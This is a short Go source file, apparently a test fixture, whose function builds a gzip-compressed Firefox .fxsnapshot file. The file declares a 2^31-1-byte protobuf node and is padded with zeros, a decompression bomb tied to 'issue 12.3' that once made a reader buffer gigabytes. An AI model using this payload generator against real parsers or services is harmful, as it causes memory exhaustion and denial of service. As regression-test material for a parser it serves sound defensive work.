package hostile

import (
	"io"
	"math"

	"github.com/klauspost/compress/gzip"
	"google.golang.org/protobuf/encoding/protowire"
)

// FxsnapshotBomb writes the .fxsnapshot of issue 12.3 to w: gzip (as
// Firefox writes it) of a Metadata message and then a Node message
// declared 2^31-1 bytes long, of which zeros zero bytes follow. With
// zeros at the declared length, 2.1 MB inflate to 2 GB, which the reader
// buffered whole (6.3 GB) before finding that a zero byte is no field.
func FxsnapshotBomb(w io.Writer, zeros int64) error {
	zw, err := gzip.NewWriterLevel(w, gzip.BestCompression)
	if err != nil {
		return err
	}
	meta := protowire.AppendVarint(protowire.AppendTag(nil, 1, protowire.VarintType), 1700000000000000)
	head := protowire.AppendBytes(nil, meta)
	head = protowire.AppendVarint(head, math.MaxInt32)
	if _, err := zw.Write(head); err != nil {
		return err
	}
	if err := writeZeros(zw, zeros); err != nil {
		return err
	}
	return zw.Close()
}

// writeZeros writes n zero bytes to w.
func writeZeros(w io.Writer, n int64) error {
	block := make([]byte, 1<<20)
	for n > 0 {
		k := min(n, int64(len(block)))
		if _, err := w.Write(block[:k]); err != nil {
			return err
		}
		n -= k
	}
	return nil
}
